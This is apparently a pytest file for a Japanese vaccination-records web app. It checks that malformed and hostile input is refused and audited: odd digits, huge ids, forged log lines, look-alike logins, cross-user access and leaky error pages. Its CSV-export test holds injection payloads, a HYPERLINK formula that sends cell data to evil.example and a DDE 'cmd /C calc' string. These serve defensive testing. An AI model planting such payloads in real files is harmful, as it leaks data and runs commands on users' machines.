"""What an outside probe of the running server found, each refused with a clear answer and on record.

Each test is one finding: before the fix the request crashed the server (500, the failed attempt
rolled back and so never logged), or was refused without a trace, or wrote something it should not.
"""
from __future__ import annotations

import json

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from sesshu.approvals.models import ApprovalRequest
from sesshu.audit.models import AuditEntry
from sesshu.auth.models import StaffUser, WebAuthnCredential
from sesshu.auth.service import create_user
from sesshu.clock import utcnow
from sesshu.domain.errors import Conflict, InvalidInput, NotFound
from sesshu.ledger.models import VaccinationRecord
from sesshu.ledger.service import record_history
from tests.web.conftest import ADMIN, PASSWORD, add_record, csrf_token, login, submit_password

HUGE = 10 ** 25  # beyond any integer column; SQLite cannot even bind it
ODD_DIGITS = ("\u00b2", "\u1369")  # superscript two, Ethiopic one: str.isdigit() is true, int() refuses them


def _entries(db, action: str) -> list[AuditEntry]:
    with db.transaction() as s:
        return list(s.execute(select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.seq))
                    .scalars())


def _details(db, action: str) -> list[dict]:
    return [json.loads(e.detail) for e in _entries(db, action)]


def _totp_page(client, staff) -> str:
    assert submit_password(client, staff.login_id).status_code == 303
    return csrf_token(client.get("/login/totp").text)


@pytest.mark.parametrize("odd", ODD_DIGITS)
def test_a_totp_code_with_odd_digits_is_a_failure_on_record_not_a_crash(odd, client, make_staff, db):
    staff = make_staff("clerk")
    csrf = _totp_page(client, staff)
    r = client.post("/login/totp", data={"code": "12345" + odd, "csrf_token": csrf})
    assert r.status_code == 400 and "確認コードが正しくありません" in r.text
    assert [d["reason"] for d in _details(db, "auth.mfa_failed")] == ["bad_code"]
    with db.transaction() as s:  # it counts towards the lock like any wrong code
        assert s.execute(select(StaffUser.failed_logins).where(StaffUser.login_id == staff.login_id)).scalar_one() == 1


def test_a_totp_code_typed_in_full_width_digits_is_accepted(client, make_staff):
    staff = make_staff("clerk")
    csrf = _totp_page(client, staff)
    full_width = staff.next_code().translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    r = client.post("/login/totp", data={"code": full_width, "csrf_token": csrf})
    assert r.status_code == 303 and r.headers["location"] == "/"


def test_reauth_with_odd_digits_is_a_failure_on_record(client, make_staff, db):
    staff = make_staff("supervisor")
    csrf = login(client, staff)
    r = client.post("/reauth", data={"password": PASSWORD, "code": "12345\u00b2", "next": "/", "csrf_token": csrf})
    assert r.status_code == 400
    assert [d["reason"] for d in _details(db, "auth.reauth_failed")] == ["bad_code"]


@pytest.mark.parametrize("odd", ODD_DIGITS)
def test_a_version_field_with_odd_digits_is_refused_as_input(odd, client, make_staff, persons, db):
    record_id = add_record(db, persons["plain"])
    csrf = login(client, make_staff("supervisor"))
    r = client.post(f"/records/{record_id}/void", data={"csrf_token": csrf, "atena_no": persons["plain"],
                                                        "expected_version": odd, "reason": "誤登録"})
    assert r.status_code == 400 and "版数が正しくありません" in r.text
    r = client.post("/approvals/1/withdraw", data={"csrf_token": csrf, "expected_version": odd})
    assert r.status_code == 400 and "版数が正しくありません" in r.text
    with db.transaction() as s:
        assert s.get(VaccinationRecord, record_id).status == "active"


def test_ids_beyond_any_row_answer_not_found(client, make_staff, persons, db, settings):
    csrf = login(client, make_staff("supervisor"))
    assert client.get(f"/records/{HUGE}/history").status_code == 404
    r = client.post(f"/records/{HUGE}/void", data={"csrf_token": csrf, "expected_version": "1", "reason": "x"})
    assert r.status_code == 404
    r = client.post(f"/api/v1/records/{HUGE}/correct", headers={"X-CSRF-Token": csrf},
                    json={"expected_version": 1, "reason": "x", "changes": {"lot_no": "X1"}})
    assert r.status_code == 404 and r.json()["error"]["code"] == "E_NOT_FOUND"
    assert client.post(f"/account/passkeys/{HUGE}/delete", data={"csrf_token": csrf}).status_code == 404
    with pytest.raises(NotFound):  # the CLI goes through the same service
        record_history(db, actor=ADMIN, record_id=HUGE)


@pytest.mark.parametrize("query", [{"seq_from": str(HUGE)}, {"seq_to": str(HUGE)}, {"from": "0001-01-01"},
                                   {"to": "9999-12-31"}])
def test_audit_lookup_refuses_numbers_and_dates_out_of_range(query, client, make_staff):
    login(client, make_staff("auditor"))
    r = client.get("/audit/entries", params=query)
    assert r.status_code == 400 and "error" in r.text
    r = client.get("/audit/anomalies", params={"from": "9999-12-31", "to": "9999-12-31"})
    assert r.status_code == 400


@pytest.mark.parametrize("changes", [{"lot_no": "A" * 31}, {"dose_no": "\u1369"}, {"dose_no": "9" * 30},
                                     {"tuberculin_size_v": "99999999999"}, {"ticket_no": "1" * 21}])
def test_a_correction_must_fit_the_field(changes, client, make_staff, persons, db):
    record_id = add_record(db, persons["plain"])
    csrf = login(client, make_staff("supervisor"))
    r = client.post(f"/api/v1/records/{record_id}/correct", headers={"X-CSRF-Token": csrf},
                    json={"expected_version": 1, "reason": "入力誤り", "changes": changes})
    assert r.status_code == 400 and r.json()["error"]["code"] == "E_INVALID_INPUT", r.text
    with db.transaction() as s:
        r = s.get(VaccinationRecord, record_id)
        assert (r.version, r.lot_no, r.dose_no) == (1, "AB123", 1)
    assert _entries(db, "record.correct") == []


def test_a_my_number_with_odd_digits_is_refused_as_input(client, make_staff, persons, db):
    csrf = login(client, make_staff("clerk"))
    r = client.post(f"/persons/{persons['plain']}/mynumber/verify",
                    data={"csrf_token": csrf, "number": "12345678901\u1369", "document": "mynumber_card"})
    assert r.status_code == 400 and "個人番号は数字12桁で入力してください" in r.text


def test_a_typed_login_id_cannot_forge_lines_of_the_log(client, db):
    forged = "zz\n9999\t2026-11-26\tdemo-super\x1b[2K"
    r = submit_password(client, forged, "x" * 12)
    assert r.status_code == 400
    [entry] = _entries(db, "auth.login_failed")
    assert entry.actor.isprintable() and "\n" not in entry.actor and "\t" not in entry.actor
    assert entry.actor.startswith("zz")


@pytest.mark.parametrize("login_id", ["ａｄｍｉｎ", "аdmin", "tanaka\u200b", "Clerk-1"])
def test_look_alike_and_case_variant_login_ids_are_refused(login_id, settings, db, make_staff):
    make_staff("clerk")  # clerk-1
    with pytest.raises((InvalidInput, Conflict)):
        create_user(db, settings, actor=ADMIN, login_id=login_id, display_name="別人", role="clerk",
                    password=PASSWORD)


def _request_non_resident(client, csrf: str) -> int:
    r = client.post("/persons/new", data={
        "csrf_token": csrf, "name": "熊谷 花子", "name_kana": "くまがや はなこ", "sex": "F", "birth_date": "令和2年6月15日",
        "postal_code": "360-0042", "address": "さいたま市浦和区高砂3-15-1", "phone": "", "my_number": "",
        "reason": "市外在住者の予診票の受付"})
    assert r.status_code == 303, r.text
    return int(r.headers["location"].split("/")[2].split("?")[0])


def test_another_clerks_approval_is_refused_like_a_missing_one_and_on_record(app, client, make_staff, db):
    approval_id = _request_non_resident(client, login(client, make_staff("clerk")))
    with TestClient(app, follow_redirects=False) as other:
        csrf = login(other, make_staff("clerk", login_id="clerk-2"))
        missing = approval_id + 100
        assert other.get(f"/approvals/{approval_id}").status_code == 404
        assert other.get(f"/approvals/{missing}").status_code == 404
        assert other.get(f"/api/v1/approvals/{approval_id}").status_code == 404
        for target in (approval_id, missing):
            r = other.post(f"/approvals/{target}/withdraw", data={"csrf_token": csrf, "expected_version": "1"})
            assert r.status_code == 404, target
    assert [(e.actor, json.loads(e.detail)["approval_id"]) for e in _entries(db, "approval.view_refused")] == [
        ("clerk-2", approval_id), ("clerk-2", approval_id)]
    assert [(e.actor, json.loads(e.detail)["approval_id"]) for e in _entries(db, "approval.withdraw_refused")] == [
        ("clerk-2", approval_id)]
    with db.transaction() as s:
        assert s.get(ApprovalRequest, approval_id).status == "requested"


def test_removing_someone_elses_passkey_is_refused_and_on_record(app, client, make_staff, db):
    owner = make_staff("clerk")
    with db.transaction() as s:
        user_id = s.execute(select(StaffUser.id).where(StaffUser.login_id == owner.login_id)).scalar_one()
        key = WebAuthnCredential(user_id=user_id, credential_id="cred-of-the-owner", public_key=b"\x00",
                                 sign_count=0, transports="internal", label="窓口PC", created_at=utcnow())
        s.add(key)
        s.flush()
        passkey_id = key.id
    csrf = login(client, make_staff("supervisor"))
    assert client.post(f"/account/passkeys/{passkey_id}/delete", data={"csrf_token": csrf}).status_code == 404
    with db.transaction() as s:
        assert s.get(WebAuthnCredential, passkey_id) is not None
    assert [(e.actor, json.loads(e.detail)["passkey_id"]) for e in _entries(db, "auth.passkey_remove_refused")] == [
        ("supervisor-1", passkey_id)]


def test_an_unexpected_error_answers_in_japanese_with_the_security_headers(app):
    def broken():
        raise RuntimeError("secret detail 1001 山田")

    app.add_api_route("/probe-broken", broken)
    with TestClient(app, raise_server_exceptions=False) as c:
        r = c.get("/probe-broken")
    assert r.status_code == 500
    assert "secret" not in r.text and "山田" not in r.text and "Traceback" not in r.text
    assert "システムエラー" in r.text
    assert r.headers["cache-control"] == "no-store"
    assert "frame-ancestors 'none'" in r.headers["content-security-policy"]



def test_a_reason_longer_than_the_history_keeps_is_refused(client, make_staff, persons, db):
    record_id = add_record(db, persons["plain"])
    csrf = login(client, make_staff("supervisor"))
    base = {"csrf_token": csrf, "atena_no": persons["plain"], "expected_version": "1"}
    r = client.post(f"/records/{record_id}/void", data={**base, "reason": "誤" * 401})
    assert r.status_code == 400 and "400文字以内" in r.text
    r = client.post(f"/records/{record_id}/correct", data={**base, "reason": "誤" * 401, "lot_no": "XY999",
                                                           "orig_lot_no": "AB123"})
    assert r.status_code == 400 and "400文字以内" in r.text
    with db.transaction() as s:
        r = s.get(VaccinationRecord, record_id)
        assert (r.version, r.status, r.lot_no) == (1, "active", "AB123")


def test_an_approver_outside_the_persons_task_cannot_decide_nor_close_the_request(app, client, make_staff, persons,
                                                                                   db):
    from sesshu.access import service as access
    from sesshu.access.models import StaffAssignment

    record_id = add_record(db, persons["plain"])
    csrf = login(client, make_staff("supervisor"))
    r = client.post(f"/records/{record_id}/reassign", data={
        "csrf_token": csrf, "atena_no": persons["plain"], "expected_version": "1",
        "to_atena_no": persons["hostile"], "reason": "別人の記録"})
    assert r.status_code == 303, r.text
    approval_id = int(r.headers["location"].split("/")[2].split("?")[0])
    outsider = make_staff("supervisor", login_id="supervisor-2")
    with db.transaction() as s:
        user_id = s.execute(select(StaffUser.id).where(StaffUser.login_id == outsider.login_id)).scalar_one()
        s.execute(StaffAssignment.__table__.delete().where(StaffAssignment.user_id == user_id))
    access.assign(db, actor=ADMIN, login_id=outsider.login_id, task_code="kenko_higai_kyusai", department="健康づくり課")
    with TestClient(app, follow_redirects=False) as other:
        other_csrf = login(other, outsider)
        for verb in ("approve", "reject"):
            r = other.post(f"/api/v1/approvals/{approval_id}/{verb}", headers={"X-CSRF-Token": other_csrf},
                           json={"expected_version": 1, "comment": "範囲外"})
            assert r.status_code == 404, (verb, r.text)
    with db.transaction() as s:
        assert s.get(ApprovalRequest, approval_id).status == "requested"
        assert s.get(VaccinationRecord, record_id).atena_no == persons["plain"]
    # On record by the approvals service itself (the kind's 事務 is not the approver's: access.scoped).
    refusals = [e for e in _entries(db, "approval.decision_refused") if e.actor == "supervisor-2"]
    assert len(refusals) == 2 and all('"out_of_scope": true' in e.detail for e in refusals)
    assert _entries(db, "approval.fail") == [] and _entries(db, "approval.approve") == []


def test_an_exported_csv_cannot_carry_a_spreadsheet_formula(client, make_staff, settings, db, tmp_path):
    import csv
    import io

    import pyzipper

    from sesshu.registry.service import import_registry
    from tests.helpers import REGISTRY_HEADER, write

    row = ('1003,,=HYPERLINK("http://evil.example/?"&A2),イコール　テスト,女,R2.5.3,360-0002,'
           '@SUM(1+1)*cmd|\' /C calc\'!A0,,5003,世帯主,テスト,住民,,')
    path = write(tmp_path / "hostile.csv", REGISTRY_HEADER + "\n" + row + "\n")
    assert import_registry(db, settings, path=path, actor=ADMIN).accepted == 1
    csrf = login(client, make_staff("supervisor"))
    r = client.post("/search/export", params={"atena_no": "1003"}, data={
        "csrf_token": csrf, "purpose": "CSV注入の確認", "password": "Export-Pass-2026",
        "password_confirmation": "Export-Pass-2026"})
    assert r.status_code == 200, r.text
    with pyzipper.AESZipFile(io.BytesIO(r.content)) as z:
        z.setpassword(b"Export-Pass-2026")
        text = z.read(z.namelist()[0]).decode("utf-8-sig")
    [header, cells] = list(csv.reader(io.StringIO(text)))
    assert cells[header.index("氏名")].startswith("'=HYPERLINK(")
    assert cells[header.index("住所")].startswith("'@SUM(")
    assert cells[header.index("宛名番号")] == "1003"


def test_the_condition_form_refuses_odd_digits_and_ids_past_any_row(client, make_staff, persons, db):
    csrf = login(client, make_staff("supervisor"))
    atena = persons["plain"]
    r = client.post(f"/persons/{atena}/conditions", data={
        "csrf_token": csrf, "condition_code": "designated_disability", "impairment": "heart",
        "evidence_kind": "handbook", "evidence_grade": "\u1369級", "evidence_no": "第1号", "reason": "確認"})
    assert r.status_code == 400 and "等級は数字で入力してください" in r.text
    r = client.post(f"/persons/{atena}/conditions/{HUGE}/end", data={"csrf_token": csrf, "mode": "withdraw",
                                                                     "reason": "誤登録"})
    assert r.status_code == 404


def test_a_security_officer_cannot_allow_the_totp_code_for_their_own_account(app, client, make_staff, db):
    officer = make_staff("security_officer")
    csrf = login(client, officer)
    r = client.post(f"/admin/accounts/{officer.login_id}/totp-fallback",
                    data={"csrf_token": csrf, "allowed": "1", "reason": "パスキーが面倒"})
    assert r.status_code == 403 and "ご自身の確認コード" in r.text
    assert [json.loads(e.detail)["login_id"] for e in _entries(db, "user.totp_fallback_refused")] == [officer.login_id]
    assert _entries(db, "user.totp_fallback") == []
    with TestClient(app, follow_redirects=False) as other:  # a second officer may, and it is on record
        other_csrf = login(other, make_staff("security_officer", login_id="security-officer-2"))
        r = other.post(f"/admin/accounts/{officer.login_id}/totp-fallback",
                       data={"csrf_token": other_csrf, "allowed": "1", "reason": "端末の紛失"})
        assert r.status_code == 303
    assert [e.actor for e in _entries(db, "user.totp_fallback")] == ["security-officer-2"]
